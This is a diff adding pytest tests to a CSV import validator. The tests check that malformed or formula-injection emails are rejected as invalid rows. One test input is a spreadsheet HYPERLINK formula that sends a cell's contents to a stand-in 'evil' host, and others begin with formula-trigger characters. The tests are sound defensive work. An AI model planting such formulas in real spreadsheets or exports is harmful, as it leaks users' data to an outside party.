@@ -776,3 +776,36 @@ def test_random_files_read_alike_in_any_chunk_size_and_from_any_checkpoint(
         for index, (_, checkpoint) in enumerate(items):
             rest = read_records(io.BytesIO(data[checkpoint.offset :]), heading, checkpoint, chunk_size=5)
             assert list(rest) == items[index + 1 :]
+
+
+# --- the email rule: the API's own (domain/rules.py), formula injection refused ---------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '"=HYPERLINK(""http://evil/?""&C3,""Open"")&""@x.io"',
+        "=1+1@x.io",
+        "+x@x.io",
+        "-x@x.io",
+        "@x@x.io",
+        "a@b",
+        "a@@b.io",
+        '"a,b@x.io"',
+        '"a;b@x.io"',
+        "a(b)@x.io",
+        '"<a@x.io>"',
+    ],
+)
+def test_an_email_the_api_refuses_is_an_invalid_email_row(cell: str) -> None:
+    from chalicelib.domain import rules
+
+    error = only_error(f"{HEADINGS}{cell},Ana,,,,,\n")
+    assert error.code == "invalid_email", error
+    assert "Email field" in error.message
+    value = next(csv.reader(io.StringIO(cell)))[0]
+    assert not rules.is_email(value.strip().lower())  # the same rule, the same answer
+
+
+def test_an_apostrophe_inside_an_email_is_fine() -> None:
+    assert only_record(f"{HEADINGS}O'Brien@Acme.example,Ana,,,,,\n").email == "o'brien@acme.example"
